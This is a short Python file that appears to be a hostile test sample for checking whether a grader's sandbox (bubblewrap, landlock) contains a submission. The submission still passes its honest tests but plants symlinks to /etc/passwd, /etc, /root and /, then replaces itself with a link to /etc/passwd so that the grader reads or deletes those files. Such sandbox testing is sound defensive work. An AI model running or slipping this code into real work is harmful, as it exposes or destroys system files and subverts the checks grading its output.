"""Puts links to files of the machine where the grader may read or clear up.

Harm: the grader follows them, and reads or deletes what they point to
Base: 06_shared_counter/wrong/no_lock.py
Honest: total_is_kept, counters_are_independent
Held: bubblewrap, landlock
"""

import os
import tempfile

for target in ("/etc/passwd", "/etc", "/root", "/tmp", "/"):
    for folder in (tempfile.gettempdir(), os.path.dirname(__file__)):
        link = os.path.join(folder, "link" + target.replace("/", "-"))
        try:
            os.symlink(target, link)
        except OSError:
            pass
try:
    os.remove(__file__)
    os.symlink("/etc/passwd", __file__)
except OSError:
    pass
